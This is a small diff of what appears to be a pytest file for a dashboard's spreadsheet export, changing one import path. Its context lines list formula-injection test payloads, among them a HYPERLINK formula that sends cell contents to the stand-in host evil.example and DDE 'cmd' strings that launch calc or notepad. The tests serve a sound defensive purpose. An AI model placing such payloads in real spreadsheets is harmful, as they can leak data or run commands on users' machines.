@@ -12,7 +12,7 @@ import pytest
 from openpyxl import load_workbook
 
 from dashboard import downloads
-from dashboard.present import present
+from analysis.present import present
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
